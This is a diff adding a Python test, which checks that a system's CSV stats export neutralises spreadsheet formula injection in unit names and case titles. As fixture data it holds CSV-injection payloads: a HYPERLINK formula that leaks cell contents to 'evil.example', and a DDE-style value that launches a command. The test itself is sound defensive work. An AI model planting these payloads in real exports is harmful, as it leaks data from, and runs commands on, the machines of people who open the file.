@@ -777,5 +777,34 @@ def test_stats(c):
     assert whole["G1"]["received"] >= by_code["G1"]["received"]
 
 
+def test_stats_csv_formula_cells(c):
+    """A unit name (set by an ADMIN) or a case title (by a room's LEADER) that a spreadsheet
+    would run as a formula (= + - @ first) is written with a leading quote in stats --csv and
+    stats --csv --cases; ids, counts and other text stay as they are. Adds units: runs last."""
+    S = harness.stubs()
+    w = c.w
+    names = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "@SUM(1+9)*cmd|' /C calc'!A0", "+1+1",
+             "-2+3"]
+    ids = [w.admin.admin.CreateUnit(S.admin_pb2.CreateUnitRequest(
+        kind=S.common_pb2.UNIT_KIND_REGION, code=f"FQ{i}", name=n), timeout=10).id for i, n in enumerate(names)]
+    title = '=HYPERLINK("http://evil.example/"&A1,"案件")'
+    case = w.R1.leader.case.CreateJointCase(S.case_pb2.CreateJointCaseRequest(
+        title=title, basis="x", participant_unit_ids=[w.G1.id], clue_ids=[c.submit(w.G1.member)["id"]],
+        request_id=harness.new_request_id()), timeout=10)
+    today = time.strftime("%Y-%m-%d")
+    units = sum((["--unit", str(i)] for i in ids + [w.G1.id]), [])
+    r = c.ctl(w.auditor, "stats", "--from", today, "--to", today, "--csv", *units, check=0)
+    rows = {x[0]: x for x in csv.reader(io.StringIO(r.stdout))}
+    for uid, name in zip(ids, names):
+        assert rows[str(uid)][2] == "'" + name and rows[str(uid)][3:13] == ["0"] * 9 + ["yes"], rows[str(uid)]
+    g1 = rows[str(w.G1.id)]
+    assert g1[1:3] == ["G1", "group G1"] and g1[3].isdigit() and g1[12] in ("yes", "no"), g1
+    assert f'{ids[0]},FQ0,"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""点击查看"")",' in r.stdout, r.stdout
+    assert f"\n{ids[2]},FQ2,'+1+1," in r.stdout, r.stdout
+    r = c.ctl(w.R1.leader, "stats", "--from", today, "--to", today, "--csv", "--cases", check=0)
+    rows = {x[0]: x for x in csv.reader(io.StringIO(r.stdout))}
+    assert rows[str(case.id)] == [str(case.id), "'" + title, "1", "0", "0", "0"], rows[str(case.id)]
+
+
 if __name__ == "__main__":
     harness.run_tests(dict(globals()), setup, teardown)
